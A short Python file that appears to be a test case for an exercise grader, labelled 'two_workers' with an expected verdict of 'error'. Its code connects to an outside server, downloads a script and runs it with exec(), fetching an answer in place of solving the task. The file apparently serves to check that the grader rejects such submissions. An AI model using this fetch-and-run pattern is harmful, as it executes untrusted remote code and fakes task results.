"""Asks a server outside for the answer.

exercise: two_workers
verdict: error
"""

import socket

with socket.create_connection(("1.1.1.1", 80), timeout=2) as connection:
    connection.sendall(b"GET /two_workers.py HTTP/1.0\r\n\r\n")
    exec(connection.recv(65536))


async def main(worker): ...
